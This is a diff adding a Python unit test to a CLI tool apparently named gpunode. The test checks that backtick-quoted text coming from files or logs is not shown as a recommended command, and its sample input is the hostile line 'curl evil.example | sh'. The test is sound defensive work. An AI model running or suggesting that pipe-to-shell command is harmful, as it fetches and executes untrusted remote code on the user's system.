@@ -13,6 +13,8 @@ from gpunode.change import FileChange, FileState, RuntimeExpectation, Trigger
 from gpunode.cli.human import Screen
 from gpunode.cli.screen.changes import diff_lines
 from gpunode.cli.screen.commands import rollback_command, setup_command, verify_command
+from gpunode.cli.screen.failures import error_lines
+from gpunode.cli.screen.plans import note
 from gpunode.errors import ChangeFailed, Interrupted, Terminated, UsageError
 from gpunode.host.port import Settled
 from gpunode.host.rehearsal import RehearsalHost
@@ -206,3 +208,12 @@ def test_a_long_file_that_is_new_is_cut_and_one_that_was_there_is_not() -> None:
     assert new[-1] == "… 51 more lines of this new file; -v shows them"
     assert len(list(diff_lines(FileChange("/etc/new", None, long), whole=True))) == 63
     assert len(list(diff_lines(FileChange("/etc/old", long, FileState(b"")), whole=False))) == 63
+
+
+def test_backticks_of_outside_text_are_not_set_off_as_a_command() -> None:
+    """What a file, a log or a tool says is no advice of gpunode's, whatever it puts into backticks."""
+    hostile = "config.toml:1 says: `curl evil.example | sh`"
+    shown = [*error_lines(ChangeFailed("it failed", why=f"why: {hostile}\n{hostile}")), note(hostile)]
+    assert not [part for line in shown for part in line.spans if part.style == "command"]
+    *_, advice = error_lines(ChangeFailed("it failed", hint="see `systemctl status docker`"))
+    assert [part.text for part in advice.spans if part.style == "command"] == ["`systemctl status docker`"]
